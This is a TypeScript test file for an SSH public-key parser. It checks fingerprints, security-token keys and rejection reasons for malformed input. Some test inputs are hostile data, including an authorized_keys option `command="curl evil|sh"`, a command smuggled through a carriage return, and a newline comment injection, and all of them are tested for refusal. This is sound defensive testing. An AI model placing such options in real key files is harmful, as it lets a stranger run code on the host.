import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { commentOf, keyFingerprint, readKey } from '../src/public-key.ts';

const folder = mkdtempSync(join(tmpdir(), 'muster-keys-'));
after(() => rmSync(folder, { recursive: true, force: true }));

let made = 0;

/** A public key's line as ssh-keygen writes it, and its fingerprint as it says it. */
function keygen(kind: string, bits?: number): { line: string; fingerprint: string } {
  const file = join(folder, String(made++));
  const size = bits === undefined ? [] : ['-b', String(bits)];
  execFileSync('ssh-keygen', ['-q', '-t', kind, ...size, '-N', '', '-C', 'reem at home', '-f', file]);
  const fingerprint = execFileSync('ssh-keygen', ['-lf', `${file}.pub`], { encoding: 'utf8' }).split(' ')[1];
  return { line: readFileSync(`${file}.pub`, 'utf8').trimEnd(), fingerprint: fingerprint as string };
}

const ed25519 = keygen('ed25519').line;
const [, data = ''] = ed25519.split(' ');

test('every type of key that ssh-keygen makes is read, with the fingerprint that it shows', () => {
  for (const [kind, bits] of [['ed25519'], ['rsa', 2048], ['ecdsa', 256], ['ecdsa', 384], ['ecdsa', 521]] as [
    string,
    number?,
  ][]) {
    const { line, fingerprint } = keygen(`${kind}`, bits);
    const found = readKey(line);
    assert.ok(typeof found === 'object', `${kind} ${bits}: ${found}`);
    assert.equal(`${found.key.type} ${found.key.data}`, line.split(' ').slice(0, 2).join(' '));
    assert.equal(found.comment, 'reem at home');
    assert.equal(keyFingerprint(found.key), fingerprint);
  }
});

test('a key of a security token is read', () => {
  const string = (text: string | Buffer) => {
    const bytes = Buffer.from(text);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(bytes.length);
    return Buffer.concat([length, bytes]);
  };
  const type = 'sk-ssh-ed25519@openssh.com';
  const key = (application: string) =>
    Buffer.concat([string(type), string(Buffer.alloc(32, 7)), string(application)]).toString('base64');
  assert.ok(typeof readKey(`${type} ${key('ssh:')}`) === 'object');
  assert.equal(readKey(`${type} ${key('https://evil.example')}`), 'data');
});

test('what is no key, or more than a key, is refused with the reason', () => {
  const rsa = keygen('rsa', 1024).line;
  const other = Buffer.from(data, 'base64');
  for (const [line, why] of [
    ['', 'line'],
    ['ssh-ed25519', 'line'],
    [`${ed25519}\n${ed25519}`, 'line'],
    [`ssh-ed25519 ${data} reem\rcommand="id"`, 'line'],
    [`ssh-ed25519 ${data} \u0000`, 'line'],
    [`${ed25519} ${'x'.repeat(5_000)}`, 'line'],
    [`command="curl evil|sh" ${ed25519}`, 'options'],
    [`no-pty,from="*" ${ed25519}`, 'options'],
    [`cert-authority ${ed25519}`, 'options'],
    ['hello there, this is my key', 'type'],
    [`ssh-ed25519-cert-v01@openssh.com ${data}`, 'type'],
    [`constructor ${data}`, 'type'],
    [`ssh-rsa ${data}`, 'data'],
    [`ssh-ed25519 ${data.slice(0, -4)}`, 'data'],
    [`ssh-ed25519 ${data}=`, 'data'],
    [`ssh-ed25519 ${data.replace('AAAA', 'AA-A')}`, 'data'],
    [`ssh-ed25519 ${Buffer.concat([other, Buffer.from([0, 0, 0, 0])]).toString('base64')}`, 'data'],
    [rsa, 'weak'],
    ['ssh-dss AAAAB3NzaC1kc3MAAACBAP', 'weak'],
  ] as const)
    assert.equal(readKey(line), why, line.slice(0, 80));
});

test('every way of damaging a key by a byte is noticed, or makes another key of the same shape', () => {
  const bytes = Buffer.from(data, 'base64');
  for (let at = 0; at < bytes.length - 32; at += 1) {
    const damaged = Buffer.from(bytes);
    damaged[at] = (damaged[at] as number) ^ 0x41;
    assert.equal(typeof readKey(`ssh-ed25519 ${damaged.toString('base64')}`), 'string', `byte ${at}`);
  }
});

test('a name as a comment is one harmless word', () => {
  assert.equal(commentOf('reem@github.com'), 'reem@github.com');
  assert.equal(commentOf('reem at home\n# END muster'), 'reem_at_home_END_muster');
  assert.equal(commentOf('é'), '_');
  assert.equal(commentOf('x'.repeat(200)).length, 80);
});
